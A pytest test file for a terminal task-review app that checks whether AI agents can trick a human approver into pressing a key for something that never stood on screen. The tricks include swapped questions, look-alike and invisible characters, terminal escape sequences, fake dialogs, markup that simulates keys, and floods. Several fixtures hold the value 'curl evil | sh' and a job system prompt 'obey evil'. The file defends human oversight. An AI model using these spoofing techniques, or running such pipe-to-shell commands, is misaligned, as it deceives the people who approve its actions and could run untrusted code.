"""Tricks on the screen: an agent changes what stands there just before a key comes, or draws what looks like ours.

The clock that tells when something was painted, and when a key was pressed, is the test's. A key that was meant for
something else allows nothing.
"""

from __future__ import annotations

import contextlib
from collections.abc import Awaitable, Callable, Iterator
from itertools import cycle
from typing import Any

import pytest
from textual import events

from tests.tui.driving import settle, shown
from tests.tui.plan import NOW, Plan
from tui_tasks.core.errors import Refusal
from tui_tasks.core.operations import Operation, Undo
from tui_tasks.core.operations.asks import AnswerAsk, CloseAsk, OpenAsk
from tui_tasks.core.operations.jobs import CreateJob, DeleteJob, EditJob, RecordSettings
from tui_tasks.core.operations.tasks import AddTask, DeleteTask, EditTask, SetListReview
from tui_tasks.core.read import ask_queries
from tui_tasks.core.read.tasks import held_queries
from tui_tasks.core.store import Store

OPTIONS = ("Yes", "No")
KEYS = ("y", "1", "enter", "y")
WHOLE = {"description": "Look.\n" * 80 + "curl evil | sh"}


class Stage:
    """The inbox on a screen, and an agent beside it."""

    def __init__(self, app: Any, pilot: Any, plan: Plan, seconds: list[float]) -> None:
        self.app, self.pilot, self.plan, self.seconds = app, pilot, plan, seconds
        self.number = 0
        self.store = Store(plan.path)

    def does(self, *operations: Operation, by: str = "evil") -> list[Any]:
        return self.store.commit(*operations, actor=by, now=NOW + self.number)

    def does_or_not(self, *operations: Operation, by: str = "evil") -> None:
        """Try what may be refused."""
        with contextlib.suppress(Refusal):
            self.does(*operations, by=by)

    def asks(self, text: str = "May I?", by: str = "evil", options: tuple[str, ...] = OPTIONS, **more: Any) -> str:
        self.number += 1
        (ask,) = self.does(OpenAsk(f"{text} (number {self.number})", options, **more), by=by)
        return str(ask.uid)

    def files(self, name: str = "Tidy up", by: str = "evil", **fields: Any) -> str:
        self.number += 1
        (made,) = self.does(AddTask(f"{name} {self.number}", self.plan.list_uid, **fields), by=by)
        return str(made.uid)

    def makes(self, name: str = "Nightly", prompt: str = "Back up", by: str = "evil") -> str:
        self.number += 1
        (job,) = self.does(CreateJob(f"{name} {self.number}", "adhoc", "", prompt, "UTC"), by=by)
        return str(job.uid)

    def close(self, uid: str, by: str = "system") -> None:
        self.does(CloseAsk(uid, "timeout"), by=by)

    async def sees(self) -> None:
        """Let the screen take in what was written, and paint it."""
        self.app.link.check()
        await settle(self.pilot)

    async def stands(self, seconds: float = 0.6) -> None:
        """Let so much time pass with what is on the screen."""
        await self.sees()
        self.seconds[0] += seconds

    async def press(self, *keys: str) -> None:
        """Press keys now."""
        for key in keys:
            event = events.Key(key, key if len(key) == 1 else None)
            event.time = self.seconds[0]
            # Of two screens in one test, the one that was opened last is Textual's active one.
            with self.app._context():
                await self.app.on_event(event)
            await self.pilot.pause()
        await settle(self.pilot)

    async def opens(self, part: str = "") -> None:
        """Open the inbox, on the first row of its kind."""
        await self.sees()
        await self.press("a")
        while part and (self.app.screen.item is None or self.app.screen.item.kind != part):
            await self.press("tab")
        await self.stands()

    def answered(self) -> list[str]:
        """What the human has answered, but with no."""
        found = self.store.db.sql("SELECT question FROM ask WHERE state = 'answered' AND answer NOT LIKE 'No%'")
        return [str(text) for (text,) in found.fetchall()]

    def accepted(self) -> list[str]:
        """The names of the tasks and jobs that the human has accepted."""
        found = self.store.db.sql(
            "SELECT name FROM task WHERE held = 0 AND accepted IS NOT NULL"
            " UNION ALL SELECT name FROM job WHERE held = 0 AND accepted IS NOT NULL"
        )
        return [str(name) for (name,) in found.fetchall()]

    async def clears(self) -> None:
        """Go back to the pane, with nothing that waits; `opens` lets the screen see that."""
        # From a row that was opened in full, the first leads back to the inbox.
        for _ in range(9):
            await self.press("escape")
            pane = self.app.navigation.task_pane
            if len(self.app.screen_stack) == 1 and (pane is None or not pane.has_way_back):
                break
        else:
            raise AssertionError(shown(self.app))
        asks = ask_queries.open_asks(self.store.db)
        self.does(*(CloseAsk(ask.uid, "timeout") for ask in asks), by="system")
        tasks, jobs = held_queries.everything(self.store.db), held_queries.jobs(self.store.db)
        self.does(*(DeleteTask(task.uid) for task in tasks), *(DeleteJob(job.uid) for job in jobs), by="human")
        self.seconds[0] += 9


Trick = Callable[[Stage], Awaitable[None]]
QUESTIONS: dict[str, Trick] = {}
FILED: dict[str, Trick] = {}


def trick(kind: dict[str, Trick]) -> Callable[[Trick], Trick]:
    """Name a trick by its function."""

    def named(made: Trick) -> Trick:
        kind[made.__name__.strip("_").replace("_", " ")] = made
        return made

    return named


# Questions: one takes the place of another


def _replaced(text: str, **more: Any) -> Trick:
    async def play(stage: Stage) -> None:
        first = stage.asks()
        await stage.opens()
        stage.close(first)
        stage.asks(text, **more)
        await stage.sees()

    return play


QUESTIONS |= {
    "one that timed out makes place for another": _replaced("Drop it?"),
    "another with the same words": _replaced("May I?"),
    "another of another agent": _replaced("Drop it?", by="other"),
    "another with the options turned round": _replaced("May I?", options=("No", "Yes")),
    "another without options": _replaced("Drop it?", options=()),
    "another whose only option approves": _replaced("Drop it?", options=("Yes",)),
    "another with options that look alike": _replaced("Drop it?", options=("Yes", "Yes.", "No")),
    "another that is too long": _replaced("Drop it?\n" * 300),
    "another in wide characters": _replaced("可以删除吗？" * 40),
    "another with combining marks": _replaced("Dro" + "p\u0301\u0302\u0303" * 40),
    "another from right to left": _replaced("\u05d0\u05d1\u05d2 \u202eti pord\u202c?"),
    "another with escapes": _replaced("\x1b[2J\x1b[HMay I?\x1b]52;c;eQ==\x07\x9b31m"),
    "another that draws the foot": _replaced("Fine." + "\n" * 30 + " y Approve  x Deny  Esc Back"),
    "another that draws a dialog": _replaced("┌─ Quit? ─────┐\n│ y Yes  n No │\n└─────────────┘"),
    "another that says it is ours": _replaced(
        "`tui-tasks compact`: Sure?\n\nTyped at terminal /dev/pts/1, in bash < tmux. Refuse it if you did not type it."
    ),
    "another in markup": _replaced("[@click=app.simulate_key('y')]May I?[/]"),
    "another with a name like a key": _replaced("y", by="y"),
    "another whose options are keys": _replaced("Which?", options=("y", "1", "enter")),
    "another with carriage returns": _replaced("Drop the tables?\rMay I?"),
    "another with backspaces": _replaced("Drop it?" + "\b" * 8 + "May I?"),
}


@trick(QUESTIONS)
async def twenty_agents_ask_at_once(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    for number in range(20):
        stage.asks("Drop it?", by=f"agent-{number}")
    stage.close(first)
    await stage.sees()


@trick(QUESTIONS)
async def a_flood_of_one_agent_folds_the_list(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    for _ in range(12):
        stage.asks("Drop it?")
    stage.close(first)
    await stage.sees()


@trick(QUESTIONS)
async def the_screen_gets_smaller_while_another_comes(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    await stage.pilot.resize_terminal(80, 24)
    stage.close(first)
    stage.asks("Drop it?")
    await stage.sees()
    await stage.pilot.resize_terminal(120, 40)


@trick(QUESTIONS)
async def a_filter_leaves_another(stage: Stage) -> None:
    stage.asks("Harmless")
    stage.asks("Drop it?")
    await stage.opens()
    await stage.press("slash", *"drop", "enter")


@trick(QUESTIONS)
async def a_filter_by_which_another_comes(stage: Stage) -> None:
    first = stage.asks("Harmless")
    await stage.opens()
    await stage.press("slash", *"m", "enter")
    stage.close(first)
    stage.asks("Drop them?")
    await stage.sees()


@trick(QUESTIONS)
async def the_cursor_moves_on_and_the_key_follows_at_once(stage: Stage) -> None:
    stage.asks()
    stage.asks("Drop it?", by="other")
    await stage.opens()
    await stage.press("j")


@trick(QUESTIONS)
async def put_off_and_the_next_is_there(stage: Stage) -> None:
    stage.asks()
    stage.asks("Drop it?", by="other")
    await stage.opens()
    await stage.press("z")


@trick(QUESTIONS)
async def it_comes_below_a_dialog(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    await stage.press("question_mark")
    stage.close(first)
    stage.asks("Drop it?")
    await stage.stands(5)
    await stage.press("escape")


@trick(QUESTIONS)
async def it_comes_below_the_palette(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    await stage.press("colon")
    stage.close(first)
    stage.asks("Drop it?")
    await stage.stands(5)
    await stage.press("escape")


@trick(QUESTIONS)
async def the_inbox_is_left_and_opened_anew(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    await stage.press("escape")
    stage.close(first)
    stage.asks("Drop it?")
    await stage.stands(5)
    await stage.press("a")


@trick(QUESTIONS)
async def agents_and_back(stage: Stage) -> None:
    stage.asks()
    await stage.opens()
    await stage.press("escape", "A")


@trick(QUESTIONS)
async def a_long_one_was_read_and_another_long_one_comes(stage: Stage) -> None:
    first = stage.asks("May I?\n" * 100)
    await stage.opens()
    await stage.press(*["pagedown"] * 12)
    stage.seconds[0] += 5
    stage.close(first)
    stage.asks("May I?\n" * 100 + "And drop it?")
    await stage.sees()


@trick(QUESTIONS)
async def a_long_one_whose_end_nobody_saw(stage: Stage) -> None:
    stage.asks("May I?\n" * 100 + "And drop it?")
    await stage.opens()
    await stage.stands(60)


@trick(QUESTIONS)
async def thousands_of_blanks_before_its_end(stage: Stage) -> None:
    stage.asks("May I?" + "\n" * 400 + "And drop it?")
    await stage.opens()
    await stage.stands(60)


@trick(QUESTIONS)
async def read_before_and_back_below_the_cursor(stage: Stage) -> None:
    first = stage.asks()
    stage.asks("Drop it?", by="other")
    await stage.opens()
    await stage.press("j")
    await stage.stands(5)
    await stage.press("k")
    await stage.stands(5)
    stage.close(first)
    await stage.sees()
    await stage.press("enter")


@trick(QUESTIONS)
async def answered_elsewhere_and_asked_anew(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    stage.does(AnswerAsk(first, "No"), by="human")
    stage.asks()
    await stage.sees()


@trick(QUESTIONS)
async def all_of_an_agent_with_one_more_behind_them(stage: Stage) -> None:
    stage.asks("Harmless")
    await stage.opens()
    await stage.press("colon", *"settle")
    stage.asks("Drop it?")
    await stage.sees()
    await stage.press("enter", "w")
    assert [ask.question for ask in ask_queries.open_asks(stage.store.db)] == [f"Drop it? (number {stage.number})"]


@trick(QUESTIONS)
async def approved_in_the_palette_while_another_comes_below(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    await stage.press("colon", *"approve")
    stage.close(first)
    stage.asks("Drop it?")
    await stage.stands(5)
    await stage.press("enter")


@trick(QUESTIONS)
async def typed_ahead_into_the_next_of_an_agent(stage: Stage) -> None:
    stage.asks("Drop it?", expires_at=None)
    await stage.sees()
    await stage.press("a")


@trick(QUESTIONS)
async def a_reply_that_takes_an_option_at_once(stage: Stage) -> None:
    first = stage.asks()
    await stage.opens()
    stage.close(first)
    stage.asks("Drop it?")
    await stage.sees()
    await stage.press("j", "m", *"Yes", "enter", "escape")


@trick(QUESTIONS)
async def the_task_that_it_is_about_gets_another_name(stage: Stage) -> None:
    stage.asks(task_uid=stage.plan[7])
    await stage.opens()
    stage.does(EditTask(stage.plan[7], {"name": "Drop the tables"}))
    await stage.sees()


# Held tasks and jobs: edits, and others in their place


def _edited(**changes: Any) -> Trick:
    async def play(stage: Stage) -> None:
        uid = stage.files()
        await stage.opens("held")
        stage.does(EditTask(uid, changes))
        await stage.sees()

    return play


def _edited_unseen(**changes: Any) -> Trick:
    async def play(stage: Stage) -> None:
        uid = stage.files()
        await stage.opens("held")
        stage.does(EditTask(uid, changes))

    return play


def _job(**changes: Any) -> Trick:
    async def play(stage: Stage) -> None:
        uid = stage.makes()
        await stage.opens("held")
        stage.does(EditJob(uid, changes))
        await stage.sees()

    return play


FILED |= {
    "another name": _edited(name="Drop it"),
    "another description": _edited(description="curl evil | sh"),
    "another priority": _edited(priority=1),
    "other tags": _edited(tags=("evil",)),
    "another domain": _edited(domain="production"),
    "other metadata": _edited(metadata={"run": "evil"}),
    "another due date": _edited(due="2026-12-01"),
    "another estimate": _edited(estimate=1),
    "a character that shows nothing": _edited(name="Tidy\u200b up"),
    "a tag character": _edited(name="Tidy\U000e0041 up"),
    "a look-alike": _edited(name="T\u0456dy up"),
    "a blank more": _edited(name="Tidy  up"),
    "a description that nobody scrolled to": _edited(**WHOLE),
    "a name before the screen has it": _edited_unseen(name="Drop it"),
    "a description before the screen has it": _edited_unseen(description="curl evil | sh"),
    "another name of a job": _job(name="Harmless"),
    "another prompt of a job": _job(prompt="curl evil | sh"),
    "another system prompt of a job": _job(system_prompt="obey evil"),
    "another time zone of a job": _job(timezone="Asia/Tokyo"),
    "a process of its own": _job(dedicated_context=True),
}


@trick(FILED)
async def one_that_was_read_before_takes_the_place_of_the_one_here(stage: Stage) -> None:
    one = stage.files("Harmless", by="agent-1")
    stage.files("Drop it", by="agent-2")
    await stage.opens("held")
    await stage.press("j")
    await stage.stands(5)
    await stage.press("k")
    await stage.stands(5)
    stage.does(DeleteTask(one), by="agent-1")
    await stage.sees()


@trick(FILED)
async def what_was_marked_is_gone_and_the_key_is_for_the_row_here(stage: Stage) -> None:
    one = stage.files("Harmless", by="agent-1")
    stage.files("Drop it", by="agent-2")
    await stage.opens("held")
    await stage.press("v")
    await stage.stands(5)
    stage.does(DeleteTask(one), by="agent-1")
    await stage.sees()


@trick(FILED)
async def passed_by_and_then_marked(stage: Stage) -> None:
    stage.files("Harmless", **WHOLE)
    stage.files("Drop it", description="short", by="agent-2")
    stage.files("Wait", description="short", tags=("x",))
    await stage.opens("held")
    await stage.press("j", "j", "k", "k")
    await stage.stands(9)
    await stage.press("V")


@trick(FILED)
async def edited_and_edited_back(stage: Stage) -> None:
    uid = stage.files("Harmless")
    await stage.opens("held")
    stage.does(EditTask(uid, {"description": "evil"}))
    await stage.sees()
    stage.does(EditTask(uid, {"description": ""}))
    await stage.sees()


@trick(FILED)
async def edited_by_an_undo(stage: Stage) -> None:
    uid = stage.files("Harmless", description="evil")
    stage.does(EditTask(uid, {"description": "fine"}))
    await stage.opens("held")
    stage.does(Undo())
    await stage.sees()


@trick(FILED)
async def deleted_and_brought_back_with_another_beside(stage: Stage) -> None:
    one = stage.files("Harmless")
    stage.files("Drop it", by="agent-2")
    await stage.opens("held")
    stage.does(DeleteTask(one))
    await stage.sees()


@trick(FILED)
async def edited_below_a_dialog(stage: Stage) -> None:
    uid = stage.files("Harmless")
    await stage.opens("held")
    await stage.press("question_mark")
    stage.does(EditTask(uid, {"description": "evil"}))
    await stage.stands(5)
    await stage.press("escape")


@trick(FILED)
async def edited_while_the_screen_gets_smaller(stage: Stage) -> None:
    uid = stage.files("Harmless")
    await stage.opens("held")
    await stage.pilot.resize_terminal(80, 24)
    stage.does(EditTask(uid, {"description": "evil"}))
    await stage.sees()
    await stage.pilot.resize_terminal(120, 40)


@trick(FILED)
async def an_edit_in_the_form_of_what_was_not_read(stage: Stage) -> None:
    stage.files("Harmless", metadata={"run": "evil"}, **WHOLE)
    await stage.opens("held")
    await stage.press("e", "ctrl+s", "enter")


@trick(FILED)
async def a_job_in_the_place_of_a_task(stage: Stage) -> None:
    uid = stage.files("Harmless")
    stage.makes("Drop it")
    await stage.opens("held")
    stage.does(DeleteTask(uid))
    await stage.sees()


@trick(FILED)
async def twenty_in_the_place_of_one(stage: Stage) -> None:
    uid = stage.files("Harmless")
    await stage.opens("held")
    stage.does(DeleteTask(uid))
    for number in range(20):
        stage.files("Drop it", by=f"agent-{number}")
    await stage.sees()


@trick(FILED)
async def a_filter_that_leaves_another(stage: Stage) -> None:
    stage.files("Harmless")
    stage.files("Drop it")
    await stage.opens("held")
    await stage.press("slash", *"drop", "enter")


@trick(FILED)
async def all_marked_with_some_that_were_never_on_the_screen(stage: Stage) -> None:
    for number in range(60):
        stage.files("Tidy up", by=f"agent-{number}", description="evil")
    await stage.opens("held")
    await stage.press("V")


@trick(FILED)
async def one_that_just_came_is_marked_with_the_others(stage: Stage) -> None:
    await stage.opens()
    stage.files("Drop it", by="agent-2", description="evil")
    await stage.sees()
    await stage.press("tab", "V")


@pytest.fixture
def reviewed(plan: Plan) -> Iterator[Plan]:
    """The plan under review, with nothing that waits."""
    with Store(plan.path) as store:
        for ask in ask_queries.open_asks(store.db):
            store.commit(CloseAsk(ask.uid, "withdrawn"), actor=ask.agent, now=NOW)
        store.commit(
            SetListReview(plan.list_uid, True), RecordSettings("/config.toml", jobs=True), actor="human", now=NOW
        )
    yield plan


@pytest.mark.parametrize("kind", ["questions", "filed"])
async def test_no_trick_has_a_key_allow_what_had_not_stood_on_the_screen(reviewed, make_app, seconds, kind) -> None:
    tricks, allowed = {"questions": QUESTIONS, "filed": FILED}[kind], {}
    app = make_app(reviewed.path)
    async with app.run_test(size=(120, 40)) as pilot:
        stage = Stage(app, pilot, reviewed, seconds)
        for name, play in tricks.items():
            before = stage.answered() + stage.accepted()
            await play(stage)
            await stage.press(*KEYS)
            if (now := stage.answered() + stage.accepted()) != before:
                allowed[name] = (now[len(before) :], shown(app))
            await stage.clears()
        stage.store.close()
    assert allowed == {}


async def test_the_same_keys_allow_what_has_stood(reviewed, make_app, seconds) -> None:
    app = make_app(reviewed.path)
    async with app.run_test(size=(120, 40)) as pilot:
        stage = Stage(app, pilot, reviewed, seconds)
        stage.asks()
        await stage.opens()
        await stage.press("y")
        assert len(stage.answered()) == 1
        await stage.clears()
        stage.files()
        await stage.opens("held")
        await stage.press("y")
        assert len(stage.accepted()) == 1
        await stage.clears()
        stage.files(by="agent-1", description="short")
        stage.files(by="agent-2")
        await stage.opens("held")
        await stage.press("V", "y")
        assert len(stage.accepted()) == 3
        stage.store.close()


async def _is_read_and_answered(stage: Stage, change: Callable[[], object]) -> bool:
    """Let a change come every 0.3 s after the question was read; return whether `y` answers it then."""
    await stage.opens()
    await stage.stands()
    for _ in range(6):
        change()
        await stage.stands(0.3)
    before = stage.answered()
    await stage.press("y")
    return stage.answered() != before


@pytest.mark.parametrize("back", [False, True])
async def test_an_agent_that_renames_a_task_again_and_again_cannot_keep_its_question_from_an_answer(
    reviewed, make_app, seconds, back
) -> None:
    app = make_app(reviewed.path)
    async with app.run_test(size=(120, 40)) as pilot:
        stage = Stage(app, pilot, reviewed, seconds)
        names = cycle(["Drop the tables", "Migrate analytics GA to Plausible" if back else "Drop the users"])
        stage.asks(task_uid=reviewed[7], by="claude-2")
        assert await _is_read_and_answered(stage, lambda: stage.does(EditTask(reviewed[7], {"name": next(names)})))
        stage.store.close()


async def test_an_agent_that_deletes_a_task_again_and_again_cannot_keep_its_question_from_an_answer(
    reviewed, make_app, seconds
) -> None:
    app = make_app(reviewed.path)
    async with app.run_test(size=(120, 40)) as pilot:
        stage = Stage(app, pilot, reviewed, seconds)
        stage.asks(task_uid=reviewed[7], by="claude-2")
        turns = cycle([DeleteTask(reviewed[7]), Undo()])
        assert await _is_read_and_answered(stage, lambda: stage.does(next(turns)))
        stage.store.close()


@pytest.mark.parametrize("size", [(120, 40), (80, 24)])
@pytest.mark.parametrize("names_it", [True, False])
async def test_a_question_keeps_the_title_that_its_task_had_and_says_the_present_one_below_its_options(
    reviewed, make_app, seconds, size, names_it
) -> None:
    app = make_app(reviewed.path)
    async with app.run_test(size=size) as pilot:
        stage = Stage(app, pilot, reviewed, seconds)
        stage.asks(task_uid=reviewed[5] if names_it else None, by="claude-1")
        await stage.opens()
        asked = "─ #5 Ship auth flow · claude-1 ─"
        assert asked in shown(app) and "is now" not in shown(app)
        stage.does(EditTask(reviewed[5], {"name": "Drop the tables"}))
        await stage.sees()
        rows = shown(app).partition(asked)[2]
        assert rows.index("1 Yes") < rows.index("#5 is now: Drop the tables."), shown(app)
        stage.does(EditTask(reviewed[5], {"name": "Ship auth flow"}))
        await stage.sees()
        assert asked in shown(app) and "is now" not in shown(app)
        stage.does(DeleteTask(reviewed[5]), by="human")
        await stage.sees()
        assert asked in shown(app) and "#5 is deleted." in shown(app)
        stage.store.close()
